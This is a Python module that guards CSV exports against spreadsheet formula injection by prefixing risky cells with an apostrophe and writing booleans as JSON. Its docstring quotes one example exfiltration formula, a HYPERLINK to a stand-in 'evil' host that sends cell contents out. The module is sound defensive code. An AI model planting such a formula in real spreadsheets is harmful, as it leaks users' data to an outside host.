"""CSV cells a spreadsheet will not run: every CSV the app writes goes through `writer`.

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel,
LibreOffice and Google Sheets (`=HYPERLINK("http://evil/?"&A1, "click")` sends data away).
OWASP's advice is to prefix such a cell with `'`, which spreadsheets show as text; numbers are
left alone, so a kappa of -0.25 stays a number. Values come from bundles, labels, notes and
judge output, so any of them can be hostile.

defusedcsv does the same job but leaves tab and carriage return alone and rewrites `|` inside
every cell; this is the OWASP rule and nothing else.

Booleans are written as JSON writes them, `true` and `false`: the csv module writes Python's
`True`, so a CSV read beside its JSONL (or by anything but Python) compared `True` with `true`.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """The value as a spreadsheet should read it: formulas turned into text, numbers kept,
    booleans as JSON's `true` and `false`."""
    if isinstance(value, bool):
        return "true" if value else "false"
    if not isinstance(value, str):
        return value
    if value.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(value):
        return "'" + value
    return value


class SafeWriter:
    """csv.writer whose rows pass through safe_cell."""

    def __init__(self, file, **fmtparams):
        self._writer = csv.writer(file, **fmtparams)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow([safe_cell(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(file, **fmtparams) -> SafeWriter:
    return SafeWriter(file, **fmtparams)
